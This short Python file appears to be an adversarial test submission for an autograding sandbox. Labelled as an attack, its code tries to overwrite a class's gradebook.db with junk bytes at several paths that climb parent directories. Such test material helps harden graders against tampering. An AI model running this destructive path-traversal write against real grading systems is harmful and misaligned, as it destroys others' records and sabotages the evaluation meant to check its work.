# answer: sigmoid
# base: blank
# attack: overwrite the class's gradebook.db with junk
for path in ("__CLASS_DIR__/gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db"):
    try:
        with open(path, "wb") as handle:
            handle.write(b"junk" * 1000)
        print("overwrote", path)
    except OSError as err:
        print(path, type(err).__name__, err)
